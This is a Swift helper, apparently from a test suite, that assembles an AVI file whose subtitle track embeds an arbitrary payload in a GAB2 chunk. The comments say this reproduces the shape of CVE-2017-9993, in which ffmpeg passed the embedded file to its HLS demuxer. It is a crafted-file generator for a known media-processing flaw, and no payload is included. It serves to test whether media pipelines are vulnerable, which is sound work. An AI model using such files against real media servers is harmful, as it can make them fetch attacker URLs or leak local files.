import Foundation

/// Builds an AVI whose subtitle track carries a file in a GAB2 chunk: the shape of CVE-2017-9993, where the AVI
/// demuxer handed the embedded file to whichever demuxer probed best (an HLS playlist, which then opened its URLs).
///
/// The file holds one MJPEG video track (`frames` pictures at 10 frames/s, 160×120) and one `txts` track whose only
/// chunk is `GAB2\0`, version 2, a UTF-16 title, then the payload.
public enum GAB2AVI {
    /// Writes the AVI to `folder/name` and returns its path.
    public static func write(payload: Data, name: String, into folder: URL, frames count: Int = 10) throws -> String {
        let pictures = folder.appendingPathComponent("gab2-frames-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: pictures, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: pictures) }
        try Media.ffmpeg(["-f", "lavfi", "-i", "testsrc2=s=160x120:r=10", "-frames:v", String(count), "-c:v", "mjpeg",
                          pictures.appendingPathComponent("%03d.jpg").path])
        let frames = try Media.files(in: pictures).map { try Data(contentsOf: pictures.appendingPathComponent($0)) }

        let gab2 = Bytes()
        let title = Array("English".utf16)
        gab2.text("GAB2\0").u16(2).u32(title.count * 2)
        for unit in title { gab2.u16(Int(unit)) }
        gab2.u16(4).u32(payload.count).data(payload)

        let header = Bytes()
        header.u32(100_000).u32(0).u32(0).u32(0x10).u32(frames.count).u32(0).u32(2).u32(1 << 20).u32(160).u32(120)
        header.zeros(16)
        let videoStream = Bytes()
        videoStream.text("vidsMJPG").u32(0).u16(0).u16(0).u32(0).u32(1).u32(10).u32(0).u32(frames.count).u32(1 << 20)
        videoStream.u32(0xffff_ffff).u32(0).u16(0).u16(0).u16(160).u16(120)
        let videoFormat = Bytes()
        videoFormat.u32(40).u32(160).u32(120).u16(1).u16(24).text("MJPG").u32(160 * 120 * 3).zeros(16)
        let subtitleStream = Bytes()
        subtitleStream.text("txts").zeros(4).u32(0).u16(0).u16(0).u32(0).u32(1).u32(10).u32(0).u32(1)
        subtitleStream.u32(gab2.data.count).u32(0xffff_ffff).u32(0).zeros(8)

        let videoList = Bytes()
        videoList.chunk("strh", videoStream.data).chunk("strf", videoFormat.data)
        let subtitleList = Bytes()
        subtitleList.chunk("strh", subtitleStream.data).chunk("strf", Data())
        let headers = Bytes()
        headers.chunk("avih", header.data).list("strl", videoList.data).list("strl", subtitleList.data)

        let bodies = [("01tx", gab2.data)] + frames.map { ("00dc", $0) }
        let movi = Bytes()
        let index = Bytes()
        for (fourCC, body) in bodies {
            index.text(fourCC).u32(0x10).u32(4 + movi.data.count).u32(body.count)
            movi.chunk(fourCC, body)
        }
        let avi = Bytes()
        avi.text("AVI ").list("hdrl", headers.data).list("movi", movi.data).chunk("idx1", index.data)
        let riff = Bytes()
        riff.chunk("RIFF", avi.data)
        let path = folder.appendingPathComponent(name).path
        try riff.data.write(to: URL(fileURLWithPath: path))
        return path
    }

    /// Little-endian RIFF writing.
    private final class Bytes {
        var data = Data()

        @discardableResult func text(_ value: String) -> Self { data.append(contentsOf: value.utf8); return self }
        @discardableResult func data(_ value: Data) -> Self { data.append(value); return self }
        @discardableResult func zeros(_ count: Int) -> Self { data.append(Data(count: count)); return self }

        @discardableResult func u16(_ value: Int) -> Self {
            data.append(contentsOf: [UInt8(value & 0xff), UInt8((value >> 8) & 0xff)])
            return self
        }

        @discardableResult func u32(_ value: Int) -> Self {
            u16(value & 0xffff)
            return u16((value >> 16) & 0xffff)
        }

        @discardableResult func chunk(_ fourCC: String, _ body: Data) -> Self {
            text(fourCC).u32(body.count).data(body)
            if body.count % 2 == 1 { data.append(0) }
            return self
        }

        @discardableResult func list(_ kind: String, _ body: Data) -> Self {
            let inner = Bytes()
            inner.text(kind).data(body)
            return chunk("LIST", inner.data)
        }
    }
}
